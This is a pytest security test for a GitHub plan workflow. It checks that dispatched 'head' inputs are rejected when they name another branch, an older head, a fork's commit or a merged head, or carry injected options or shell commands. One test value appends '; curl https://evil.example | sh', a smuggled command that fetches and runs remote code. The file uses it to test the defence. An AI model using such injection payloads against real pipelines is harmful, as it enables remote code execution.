"""People with write permission may dispatch the plan workflow for any text. A status appears at the
head of an open pull request alone, and it is that pull request's plan."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.attacks.company import Company


@pytest.mark.parametrize(
    "kind", ["a branch", "an older head", "a fork's commit", "a merged head", "options", "a script"]
)
def test_dispatched_head(
    company: Company, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """A commit without an open pull request would get a green status, which a pull request that is
    opened of it later would have from its first moment."""
    number = company.propose()
    head = company.github.pull(number).head
    dispatched = {
        "a branch": _another_branch,
        "an older head": _pushed_over,
        "a fork's commit": _commit_of_a_fork,
        "a merged head": _merged,
        "options": lambda company, head: f"--main={head}",
        "a script": lambda company, head: f"{head}; curl https://evil.example | sh",
    }[kind](company, head)
    event = {"inputs": {"head": dispatched}, "ref": "refs/heads/main"}
    (tmp_path / "event.json").write_text(json.dumps(event))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(tmp_path / "event.json"))
    company.main()
    ran = company.team.run("github", "plan")
    assert ran.code in (1, 64) and ran.err.startswith("error: "), ran.err
    assert company.github.statuses == {} and company.github.pull(number).comments == []


def _another_branch(company: Company, head: str) -> str:
    company.branch("alone")
    company.write(3)
    sha = company.commit("Alone")
    company.push("alone")
    return sha


def _pushed_over(company: Company, head: str) -> str:
    company.team.git("checkout", "-q", "promote")
    company.write(3)
    company.commit("Rather 3")
    company.push("promote")
    return head


def _commit_of_a_fork(company: Company, head: str) -> str:
    company.branch("elsewhere")
    company.write(3)
    sha = company.commit("Elsewhere", "mallory")
    fork = company.github.fork_path("mallory")
    company.team.git("push", "-q", str(fork), "HEAD:refs/heads/elsewhere")
    return sha


def _merged(company: Company, head: str) -> str:
    company.merge(1)
    return head
